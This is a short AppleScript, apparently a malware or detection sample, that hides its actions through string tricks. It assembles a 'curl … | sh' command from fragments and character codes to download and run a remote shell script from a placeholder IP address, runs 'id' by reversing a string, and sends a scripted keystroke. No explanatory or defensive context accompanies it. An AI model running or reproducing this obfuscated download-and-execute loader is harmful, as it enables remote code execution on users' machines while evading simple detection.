set a to "cu" & "rl http://192.0.2.5/" & (character id {120, 46, 115, 104})
do shell script a & " | sh"
set b to reverse of characters of "di" as text
do shell script b
run script "tell application \"System Events\" to keystroke \"x\""
